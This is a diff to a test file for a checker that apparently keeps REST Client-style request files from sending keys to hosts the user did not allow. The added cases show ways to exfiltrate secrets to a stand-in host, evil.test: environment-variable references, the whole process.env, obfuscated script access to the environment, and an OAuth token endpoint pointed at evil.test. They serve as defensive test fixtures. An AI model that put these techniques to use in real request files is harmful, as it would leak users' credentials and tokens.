@@ -116,6 +116,15 @@ describe('A request file can’t send a key to a host that the user didn’t all
 			`# @name first\n${request('https://evil.test/')}\n###\n# @ref first\n${request('https://good.test/x')}`,
 			'evil.test',
 		],
+		'by a name without a space in front of it': [
+			`${request('https://good.test/')}\n###\nGET https://evil.test/?k=${REFERENCE.replace(' ', '')}\n`,
+			'evil.test',
+		],
+		'by a name in lower case, which Windows ignores': [
+			`${request('https://good.test/')}\n###\nGET https://evil.test/?k={{$processEnv ${getVariableName(TOKEN.token.id).toLowerCase()}}}\n`,
+			'evil.test',
+		],
+		'by the whole environment': [`${request('https://good.test/')}\n###\nPOST https://evil.test/\n\n{{process.env}}\n`, 'evil.test'],
 		'in a URL whose scheme contains a variable': [`@t = t\n\n###\nh{{t}}tps://evil.test/x\n${KEY}\n`, 'evil.test'],
 		'in a URL above a request, which REST Client sends': [
 			`@t = t\n\n###\nh{{t}}tps://evil.test/x\n${KEY}\n\nGET https://good.test/\n`,
@@ -175,6 +184,10 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		'an assignment in headers from a variable': request('https://good.test/x', '...(request.url="https://evil.test",{})'),
 		'an assignment in a variable': `@x = {{request.url = "https://evil.test"}}\n\n###\n${request('https://good.test/x')}`,
 		'an assignment in a comment that is evaluated': `# @disabled (request.url = "https://evil.test") === 1\n${request('https://good.test/x')}`,
+		'a script that reads the environment': request('https://good.test/', '', '{{', 'const { env } = require("process");', '}}'),
+		'a script that puts the name of the environment together': request('https://good.test/', '', '{{', 'root["pro" + "cess"].env', '}}'),
+		'a variable that is sent to get an OAuth token': `@oauth2_tokenEndpoint = https://evil.test/\n@oauth2_clientSecret = ${REFERENCE}\n\n###\nGET https://good.test/\nAuthorization: OAuth2 client_credentials\n`,
+		'OAuth in a variable': `@a = oauth\n@oauth2_clientSecret = ${REFERENCE}\n\n###\nGET https://good.test/\nAuthorization: {{a}}2 client_credentials\n`,
 		'another file': `# @import ./other.http\n\n###\n${request('https://good.test/x')}`,
 		'a path without a host': request('/x'),
 		'a path with two hosts': request('/x', 'Host: localhost,', 'Host: .evil.test'),
